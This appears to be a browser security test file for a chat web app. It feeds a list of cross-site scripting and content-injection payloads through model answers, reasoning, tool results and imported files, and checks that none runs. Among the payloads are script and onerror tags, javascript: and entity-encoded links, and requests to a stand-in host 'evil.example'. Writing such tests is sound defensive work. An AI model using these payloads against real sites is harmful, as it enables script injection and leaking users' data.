// Texts that attack: in answers, reasoning, tool calls and their results, imported files and names
// of models. None becomes markup, a script or a request.

import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Act, fakeModel } from "../server/fake_model.ts";
import { noChromium } from "../support/chromium.ts";
import { titled } from "../support/fixtures.ts";
import { PATIENT } from "../support/patience.ts";
import { some } from "../support/some.ts";
import { hostPage, type PageHost } from "./open_page.ts";

const EVIL = "http://evil.example";
const ATTACKS: readonly (readonly [name: string, text: string])[] = [
  ["a script", "<script>globalThis.hit = 1</script>"],
  ["an image that fails", `<img src=x onerror="globalThis.hit = 1">`],
  ["an image elsewhere", `![x](${EVIL}/pixel.png) <img src="${EVIL}/p.png">`],
  ["an image as reference", `![x][y]\n\n[y]: ${EVIL}/pixel.png`],
  ["a frame", `<iframe srcdoc="<script>parent.hit = 1</script>" src="${EVIL}"></iframe>`],
  ["SVG", `<svg onload="globalThis.hit = 1"><use href="${EVIL}/x.svg#a"/></svg>`],
  ["a style", `<style>@import url("${EVIL}/x.css"); * { background: url(${EVIL}/x.png) }</style>`],
  ["a base", `<base href="${EVIL}/">`],
  ["a redirect", `<meta http-equiv="refresh" content="0;url=${EVIL}">`],
  ["a form", `<form action="${EVIL}"><input name=a autofocus onfocus="globalThis.hit=1"></form>`],
  [
    "a link that runs",
    "[click](javascript:globalThis.hit=1) [b](JaVaScRiPt:globalThis.hit=1) <javascript:globalThis.hit=1>",
  ],
  ["a link with entities", "[click](java&#115;cript:globalThis.hit=1) [c](&#106;avascript:globalThis.hit=1)"],
  ["a link to data", "[click](data:text/html,<script>opener.hit=1</script>)"],
  ["a link into the server", "[click](/api/pull) [d](//evil.example/x) [e](?x=1)"],
  ["a title that breaks out", `[x](http://a.example "\\" onmouseover=\\"globalThis.hit=1")`],
  [
    "code with a language that breaks out",
    '```x"><img/src=x/onerror=globalThis.hit=1>\n<script>globalThis.hit = 1</script>\n```',
  ],
  ["a table of markup", "|<img src=x onerror=globalThis.hit=1>|\n|---|\n|<b onclick=globalThis.hit=1>x</b>|"],
  ["comments and CDATA", "<!-- --><![CDATA[<script>globalThis.hit=1</script>]]><?php ?><!doctype html>"],
  ["vnodes", '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}},"__v":1}'],
  ["marks of direction and nothing", "\u202Egnp.exe\u202C\u0000\u200B\uFEFF"],
  ["stars without end", "*a ".repeat(3000)],
  ["quotes without end", `${"> ".repeat(2000)}x`],
];

describe.skipIf(noChromium)(titled("texts that attack", noChromium), () => {
  let host: PageHost;
  let page: Page;
  let problems: string[];
  beforeAll(async () => {
    const model = fakeModel({
      acts(messages, options): Act[] {
        const last = messages.at(-1)!;
        const attack = ATTACKS.find(([name]) => name === last.content)?.[1];
        if (attack === undefined) return [{ say: "ok" }];
        if (options.tools?.length) return [{ call: "get_weather", args: [JSON.stringify({ city: attack })] }];
        return [{ think: attack }, { say: attack }];
      },
    });
    host = await hostPage({ ...model, name: "<img src=x onerror=globalThis.hit=1>" });
    ({ page, problems } = await host.visit());
  });
  afterAll(() => host?.close());

  /** What of the page could do something that the page's own code did not put there. */
  const harm = () =>
    page.evaluate(`(() => {
      const marks = "script, img, iframe, svg, style, base, form[action], meta[http-equiv], object, embed, link";
      const found = [...document.querySelectorAll("#page :is(" + marks + ")")].map((one) => one.outerHTML.slice(0, 80));
      for (const link of document.querySelectorAll("#page a"))
        if (!/^(https?|mailto):/.test(link.protocol) || link.origin === location.origin || link.rel !== "noreferrer noopener") found.push(link.outerHTML);
      for (const one of document.querySelectorAll("#page *"))
        for (const { name } of one.attributes) if (name.startsWith("on")) found.push(name);
      return { found, hit: globalThis.hit, title: document.title };
    })()`);
  const HARMLESS = { found: [], hit: undefined, title: "hotset" };

  it.each(some(ATTACKS, 8))("%s: in an answer and its reasoning", async (name, text) => {
    await page.keyboard.press("Alt+N");
    await page.locator("#message").fill(name);
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Regenerate" }).waitFor();
    await page.locator(".reasoning summary").click();
    expect(await harm()).toEqual(HARMLESS);
    for (const link of await page.locator(".message a").all()) await link.hover();
    expect((await page.locator(".message.assistant").innerText()).length).toBeGreaterThan(Math.min(8, text.length - 1));
    expect(problems).toEqual([]);
  });

  it("in a message of the person, in calls, and in results", async () => {
    await page.keyboard.press("Alt+N");
    await page.getByText("Tools", { exact: true }).click();
    await page.getByRole("button", { name: "Put in an example" }).click();
    for (const [name, text] of ATTACKS.slice(0, 4)) {
      await page.locator("#message").fill(name);
      await page.keyboard.press("Enter");
      await page.getByRole("textbox", { name: "Result of get_weather" }).fill(text);
      await page.getByRole("button", { name: "Give the result" }).click();
      await expect.poll(() => page.locator(".results").count(), PATIENT).toBe(0);
      await page.getByRole("button", { name: "Continue" }).waitFor();
      expect(await harm()).toEqual(HARMLESS);
    }
    expect(problems).toEqual([]);
  });

  it("in an imported file, with its title, model and error", async () => {
    const text = ATTACKS.map(([, attack]) => attack).join("\n\n");
    const node = (id: string, parent: string | null, message: object) => ({
      ...{ id, parent, created: 1, message },
      end: { model: text, reason: text, error: text },
    });
    const nodes = [
      node("a", null, { role: "user", content: text }),
      node("b", "a", { role: "assistant", content: text, reasoning: text }),
    ];
    const conversation = {
      id: "x",
      kind: "chat",
      title: "<img src=x onerror=globalThis.hit=1>",
      created: 1,
      updated: 1,
      nodes,
      leaf: "b",
    };
    const settings = { system: text, sampling: {}, stop: [text], tools: text, format: "regex", formatText: text };
    const file = { format: "hotset-conversations", version: 1, conversations: [{ ...conversation, settings }] };
    const upload = { name: "<b>.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(file)) };
    await page.getByLabel("File to import").setInputFiles(upload);
    await page.getByText("Imported 1.").waitFor();
    await page.locator(".message").nth(1).waitFor();
    expect(await page.locator(".message").count()).toBe(2);
    expect(await harm()).toEqual(HARMLESS);
    expect(problems).toEqual([]);
  });

  it("the policy stops what the page would let through", async () => {
    const stopped = await page.evaluate(`(async () => {
      const script = document.createElement("script");
      script.textContent = "globalThis.hit = 1";
      document.body.append(script);
      const left = await fetch("${EVIL}/").then(() => "sent", () => "stopped");
      await new Promise((done) => setTimeout(done)); // until here the debugger may do anything
      let evil = "run";
      try { new Function("return 1")(); } catch { evil = "stopped"; }
      return { hit: globalThis.hit, left, evil };
    })()`);
    expect(stopped).toEqual({ hit: undefined, left: "stopped", evil: "stopped" });
  });
});
